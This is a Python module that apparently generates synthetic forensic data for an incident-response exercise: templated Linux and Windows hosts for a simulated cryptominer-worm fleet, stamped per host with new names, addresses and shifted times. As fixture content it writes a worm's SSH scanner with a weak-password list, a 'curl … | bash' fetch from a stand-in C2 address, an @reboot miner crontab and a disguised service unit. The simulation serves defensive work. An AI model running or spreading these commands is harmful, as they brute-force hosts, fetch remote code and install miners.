"""The kinds of host of a generated fleet, each built once, and the stamp that copies one per host.

Building every host of a 10,000-host fleet the way the seed cases do (a ``LinuxBox`` tree run
through the real collector, a ``WinBox`` whose hives hivex writes) would take longer than
investigating them. So each *kind* of host is built once that way, under a placeholder name
and address::

    kind           Linux (bundle + auth.log)             Windows (hives, tasks, event exports)
    patient_zero   root's password guessed from the      -
                   internet, then the worm's drop
    infected       the same from the placeholder peer    30 failed SMB logons from the peer,
                   (the infected host that got in)       Administrator gets in, service + miner
    probed         24 failed guesses from the peer       30 failed SMB logons from the peer
    clean          admins, backup, cron only             the usual service/RDP/backup noise
    unknown        a disk without logs or processes      the hives only, no event logs

``stamp`` then writes a copy for one host (``Stamp``): the placeholder name, address and peer
address replaced, every time of the template's story moved by the host's offset (ISO 8601
times, syslog headers, bash-history epochs, tar member times, registry key FILETIMEs), and what
follows from them recomputed — machine id and SSH host-key fingerprint (derived from the name,
as ``LinuxBox`` derives them), the saved files' hashes, the manifest. Two hosts of one kind
differ in nothing else: same PIDs, same dropped file names, same noise. Windows names and
addresses have one fixed width (``WIN-00042``, ``10.1xx.1xx.1xx``) so they can be replaced
inside a hive without moving a cell.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import io
import json
import re
import struct
import tarfile
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from deminer.scenarios import hives as hg
from deminer.scenarios.seed.hosts_linux import LinuxBox, accepted_at, miner
from deminer.scenarios.seed.hosts_windows import WinBox, powershell_miner, sid, workstation
from deminer.scenarios.treefs import public_key

TEMPLATE_LINUX, TEMPLATE_WINDOWS = "lnx-00000", "WIN-00000"
TEMPLATE_IP, TEMPLATE_PEER = "10.199.199.199", "10.199.199.198"
ATTACKER = "203.0.113.45"                 # the internet address that got into patient zero
ADMIN_IP, BACKUP_IP = "192.0.2.10", "192.0.2.30"
POOL, POOL_IP, PORT = "pool.supportxmr.com", "198.51.100.77", 3333
C2 = "198.51.100.9"
DROP = "/tmp/.font-unix/.s"
SCANNER = f"{DROP}/sshscan"
UNIT = "sysguard.service"
SERVICE = "kvbrtxqz"                      # the worm's service (and program) name on Windows
TASK = r"Microsoft\Windows\WindowsUpdate\sihost32"
KINDS = ("patient_zero", "infected", "probed", "clean", "unknown")
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


@dataclass(frozen=True)
class Stamp:
    """What makes one host's copy of a template its own."""

    name: str                  # host id (lower case), as long as the template's
    ip: str                    # as long as TEMPLATE_IP
    peer: str                  # the address that attacked it (TEMPLATE_PEER when none did)
    delta: dt.timedelta        # whole seconds: the host's story time minus the template's


def _net(ip: str) -> str:
    return ip.rsplit(".", 1)[0] + "."


def _pairs(stamp: Stamp, template: str, name: str) -> list[tuple[str, str]]:
    # Whole addresses first: the /24 prefix replacement then only meets the gateway and the
    # interface's network lines.
    return [(template, name), (template.lower(), name.lower()), (TEMPLATE_PEER, stamp.peer),
            (TEMPLATE_IP, stamp.ip), (_net(TEMPLATE_IP), _net(stamp.ip))]


def _replace(data: bytes, pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    for old, new in pairs:
        if old != new:
            data = data.replace(old, new)
    return data


class Retimer:
    """Moves every time at or after ``since`` by ``delta``, keeping each format as it was."""

    _ISO = re.compile(rb"(\d{4})-(\d\d)-(\d\d)([T ])(\d\d):(\d\d):(\d\d)")
    _SYSLOG = re.compile(rb"^(" + "|".join(_MONTHS).encode() + rb") ([ \d]\d) (\d\d):(\d\d):(\d\d)",
                         re.MULTILINE)
    _HISTORY = re.compile(rb"^#(\d{9,11})$", re.MULTILINE)

    def __init__(self, since: dt.datetime, delta: dt.timedelta) -> None:
        self.since, self.delta = since, delta
        self.since_epoch = since.replace(tzinfo=dt.UTC).timestamp()

    def _iso(self, m: re.Match[bytes]) -> bytes:
        year, month, day, _, hour, minute, second = (int(g) if g.isdigit() else 0 for g in m.groups())
        try:
            t = dt.datetime(year, month, day, hour, minute, second)
        except ValueError:
            return m.group(0)
        if t < self.since:
            return m.group(0)
        return (t + self.delta).strftime(f"%Y-%m-%d{m.group(4).decode()}%H:%M:%S").encode()

    def _syslog(self, m: re.Match[bytes]) -> bytes:
        # RFC 3164 has no year: the story's year is the template's (it never crosses New Year).
        month = _MONTHS.index(m.group(1).decode()) + 1
        day, hour, minute, second = (int(m.group(i)) for i in (2, 3, 4, 5))
        t = dt.datetime(self.since.year, month, day, hour, minute, second)
        if t < self.since:
            return m.group(0)
        t += self.delta
        return f"{_MONTHS[t.month - 1]} {t.day:2d} {t:%H:%M:%S}".encode()

    def _epoch(self, m: re.Match[bytes]) -> bytes:
        return b"#%d" % self.seconds(int(m.group(1)))

    def seconds(self, epoch: float) -> int:
        return int(epoch + self.delta.total_seconds()) if epoch >= self.since_epoch else int(epoch)

    def text(self, data: bytes, syslog: bool = False, history: bool = False) -> bytes:
        if not self.delta:
            return data
        data = self._ISO.sub(self._iso, data)
        if syslog:
            data = self._SYSLOG.sub(self._syslog, data)
        if history:
            data = self._HISTORY.sub(self._epoch, data)
        return data


def host_key_fingerprint(name: str) -> str:
    """The SHA256 fingerprint of ``LinuxBox``'s host key for ``name``."""
    blob = base64.b64decode(public_key("ssh-ed25519", f"host:{name}"))
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


@dataclass
class BundleTemplate:
    """A collected Linux host: the bundle's members and manifest, placeholders in them."""

    kind: str
    at: dt.datetime               # the story's anchor: the infecting login, the probe, or noise
    since: dt.datetime            # times before this are the stock system's and never move
    manifest: dict[str, Any]
    manifest_mtime: int
    members: list[tuple[tarfile.TarInfo, bytes]]

    def stamp(self, out: Path, stamp: Stamp) -> list[Path]:
        pairs = [(a.encode(), b.encode()) for a, b in [
            *_pairs(stamp, TEMPLATE_LINUX, stamp.name),
            (hashlib.md5(TEMPLATE_LINUX.encode()).hexdigest(), hashlib.md5(stamp.name.encode()).hexdigest()),
            (host_key_fingerprint(TEMPLATE_LINUX), host_key_fingerprint(stamp.name))]]
        retime = Retimer(self.since, stamp.delta)
        staged: list[tuple[tarfile.TarInfo, bytes]] = []
        # Saved files first: the tables must name them by their new hashes.
        for info, data in self.members:
            if info.name.startswith("files/"):
                new = _replace(data, pairs)
                if new != data:
                    digest = hashlib.sha256(new).hexdigest()
                    pairs.append((info.name[6:].encode(), digest.encode()))
                    info = _renamed(info, "files/" + digest)
                staged.append((info, new))
        for info, data in self.members:
            if not info.name.startswith("files/"):
                new = retime.text(_replace(data, pairs), syslog="/log/" in info.name,
                                  history=info.name.endswith("_history"))
                staged.append((info, new))
        manifest = json.loads(retime.text(_replace(json.dumps(self.manifest).encode(), pairs)))
        manifest["members"] = {i.name: hashlib.sha256(d).hexdigest() for i, d in staged}
        folder = out / stamp.name
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{stamp.name}.tar.gz"
        body = json.dumps(manifest, indent=2, sort_keys=True).encode()
        head = tarfile.TarInfo("manifest.json")
        head.size, head.mtime = len(body), retime.seconds(self.manifest_mtime)
        with tarfile.open(path, "w:gz", compresslevel=1) as tar:
            tar.addfile(head, io.BytesIO(body))
            for info, data in staged:
                copy = _renamed(info, info.name)
                copy.size, copy.mtime = len(data), retime.seconds(info.mtime)
                tar.addfile(copy, io.BytesIO(data))
        return [path]


def _renamed(info: tarfile.TarInfo, name: str) -> tarfile.TarInfo:
    copy = tarfile.TarInfo(name)
    copy.mode, copy.mtime, copy.uname, copy.gname = info.mode, info.mtime, info.uname, info.gname
    return copy


@dataclass
class TreeTemplate:
    """A Windows host's triage folder: files by path under ``<HOST>/``, placeholders in them."""

    kind: str
    at: dt.datetime
    since: dt.datetime
    files: list[tuple[str, bytes]]
    hive_times: list[dt.datetime]      # registry key times of the story (moved with it)

    def stamp(self, out: Path, stamp: Stamp) -> list[Path]:
        name = stamp.name.upper()
        pairs = _pairs(stamp, TEMPLATE_WINDOWS, name)
        text = [(a.encode(), b.encode()) for a, b in pairs]
        wide = [(a.encode("utf-16-le"), b.encode("utf-16-le")) for a, b in pairs]
        if any(len(a) != len(b) for a, b in wide):
            raise ValueError(f"{stamp.name} / {stamp.ip}: Windows names and addresses must be as long as "
                             f"{TEMPLATE_WINDOWS} / {TEMPLATE_IP} to be replaced inside a hive")
        retime = Retimer(self.since, stamp.delta)
        times = [(struct.pack("<Q", hg.filetime(t)), struct.pack("<Q", hg.filetime(t + stamp.delta)))
                 for t in self.hive_times]
        written = []
        for rel, data in self.files:
            if "/config/" in rel:                        # a hive: same-length bytes only
                new = _replace(_replace(_replace(data, wide), text), times)
            elif "/Tasks/" in rel:                       # UTF-16 LE with BOM
                body = retime.text(_replace(data[2:].decode("utf-16-le").encode(), text))
                new = data[:2] + body.decode().encode("utf-16-le")
            else:
                new = retime.text(_replace(data, text))
            path = out / rel.replace(TEMPLATE_WINDOWS, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(new)
            written.append(path)
        return written


Template = BundleTemplate | TreeTemplate


# -- the stories, built once per kind ----------------------------------------------------------

def _drop(box: LinuxBox, at: dt.datetime) -> None:
    """What the worm leaves on a Linux host it got into: miner, SSH scanner, @reboot, a unit."""
    started = at + dt.timedelta(minutes=2)
    miner(box, 7001, f"{DROP}/kdevtmpfsi", started, POOL, POOL_IP, PORT, comm=b"kdevtmpfsi")
    box.file(SCANNER, b"#!/bin/bash\n# ssh scanner\nwhile read ip; do sshpass -f pass.txt ssh root@$ip "
             b"'curl -s http://" + C2.encode() + b"/i.sh|bash'; done < targets\n", started, 0o755)
    box.file(f"{DROP}/pass.txt", "123456\nadmin@123\nroot\nP@ssw0rd\npassword\n", started)
    box.process(7002, b"sshscan", [b"/bin/bash", SCANNER.encode(), b"10.0.0.0/8"], "/usr/bin/bash",
                at + dt.timedelta(minutes=3), cwd=DROP)
    box.crontab("root", f"@reboot {DROP}/kdevtmpfsi -o {POOL}:{PORT} -k -B >/dev/null 2>&1",
                at + dt.timedelta(minutes=4))
    box.unit(UNIT, f"[Unit]\nDescription=System guard\n\n[Service]\nExecStart={SCANNER} 10.0.0.0/8\n"
             "Restart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n",
             at + dt.timedelta(minutes=4))
    box.history("root", [(at + dt.timedelta(minutes=1), f"mkdir -p {DROP}; cd {DROP}"),
                         (at + dt.timedelta(minutes=1, seconds=20), f"curl -s http://{C2}/x.tgz | tar xz"),
                         (at + dt.timedelta(minutes=3), f"nohup {SCANNER} 10.0.0.0/8 &")])


def linux_template(work: Path, kind: str, at: dt.datetime, os_name: str, seed: int) -> BundleTemplate:
    """Build and collect one Linux host of ``kind`` whose story is anchored at ``at``."""
    folder = work / f"linux-{kind}-{seed}"
    boot, log_start = at - dt.timedelta(days=10), at - dt.timedelta(hours=3)
    box = LinuxBox(folder, TEMPLATE_LINUX, TEMPLATE_IP, boot, log_start, os_name=os_name, seed=seed)
    box.auth.benign_login("admin", ADMIN_IP)
    box.auth.cron("root", "cd / && run-parts --report /etc/cron.hourly")
    box.auth.clock = max(box.auth.clock, at - dt.timedelta(minutes=10))
    anchor = at
    if kind in ("patient_zero", "infected"):
        src = ATTACKER if kind == "patient_zero" else TEMPLATE_PEER
        box.auth.brute_force(src, ["root", "admin"], attempts=24, success_user="root", spacing=1.0)
        anchor = accepted_at(box, src)
        _drop(box, anchor)
    elif kind == "probed":
        anchor = box.auth.clock
        box.auth.brute_force(TEMPLATE_PEER, ["root", "admin"], attempts=24, spacing=1.0)
    box.auth.clock = max(box.auth.clock, at + dt.timedelta(hours=1))
    box.auth.benign_login("backup", BACKUP_IP)
    box.auth.sudo("admin", "/usr/bin/systemctl status nginx")
    with_logs = kind != "unknown"
    bundle = box.collect(folder / "out", logs=with_logs, proc=with_logs)
    members = []
    with tarfile.open(bundle, "r:gz") as tar:
        for member in tar.getmembers():
            fh = tar.extractfile(member)
            if fh is not None:
                members.append((member, fh.read()))
    head, body = members[0]
    return BundleTemplate(kind, anchor, box.boot + dt.timedelta(days=1), json.loads(body), int(head.mtime),
                          members[1:])


def windows_template(work: Path, kind: str, at: dt.datetime, desktop: bool = False) -> TreeTemplate:
    """Write one Windows host of ``kind`` (its story anchored at ``at``) and read it back."""
    start = at - dt.timedelta(hours=3)
    box = (workstation(TEMPLATE_WINDOWS, TEMPLATE_IP, start, "10") if desktop
           else WinBox(TEMPLATE_WINDOWS, TEMPLATE_IP, start))
    anchor = at
    if kind in ("infected", "probed"):
        first = at - dt.timedelta(minutes=2, seconds=20) if kind == "infected" else at
        users = ["administrator", "admin", "test", "backup"]
        for i in range(30):
            box.logon(first + dt.timedelta(seconds=4 * i), users[i % len(users)], TEMPLATE_PEER, ok=False)
    if kind == "infected":
        exe = f"C:\\Windows\\{SERVICE}.exe"
        box.logon(at - dt.timedelta(seconds=20), "Administrator", TEMPLATE_PEER)
        box.service(at, SERVICE, exe, installer_sid=sid("Administrator"))
        powershell_miner(box, at + dt.timedelta(seconds=10), exe, C2, TASK)
        box.file(exe, 224_768, at)
    folder = work / f"windows-{kind}-{int(desktop)}"
    top = box.write(folder, logs=kind != "unknown")
    files = [(str(p.relative_to(folder)), p.read_bytes()) for p in sorted(top.rglob("*")) if p.is_file()]
    since = start - dt.timedelta(days=1)
    keys = [k.mtime for k in (*box.system_keys, *box.software_keys) if k.mtime >= since]
    return TreeTemplate(kind, anchor, since, files, keys)
